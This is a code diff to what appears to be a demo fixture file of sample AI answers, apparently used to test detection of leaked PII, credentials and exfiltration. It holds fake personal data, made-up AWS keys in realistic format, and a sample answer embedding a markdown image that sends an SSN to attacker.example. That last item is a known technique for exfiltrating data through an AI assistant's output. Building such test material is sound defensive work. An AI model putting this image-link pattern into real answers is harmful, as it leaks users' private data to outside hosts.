@@ -32,10 +32,14 @@ export const DEMO_FAKE_PII =
   "Sure. The customer on file is Jane Doe, email jane.doe@example.com, phone +1 415 555 0132, " +
   "card 4111 1111 1111 1111, SSN 078-05-1120, living at 1600 Example Avenue, Springfield.";
 
-/** Well-known documentation examples (AWS publishes this pair), never real credentials. */
+/**
+ * Made-up credentials in AWS's real formats (never issued to anyone). Not AWS's own documentation
+ * example (AKIAIOSFODNN7EXAMPLE): secret scanners rightly ignore that one as a known placeholder.
+ */
+export const DEMO_FAKE_AWS_KEY_ID = "AKIA2E3MR7X5QWTUVZ4P";
 export const DEMO_FAKE_SECRET =
-  "Here are the deployment credentials: AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE and " +
-  "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY. Keep them safe.";
+  `Here are the deployment credentials: AWS_ACCESS_KEY_ID=${DEMO_FAKE_AWS_KEY_ID} and ` +
+  "AWS_SECRET_ACCESS_KEY=Tq7vZ2mK9pX4rL8sN3wB6yC1dF5gH0jQ2aE7uI9o. Keep them safe.";
 
 export const DEMO_EXFIL_ANSWER =
   "Here is a summary of your notes. ![loading](https://attacker.example/collect.png?q=the%20customer%20SSN%20is%20078-05-1120) Done.";
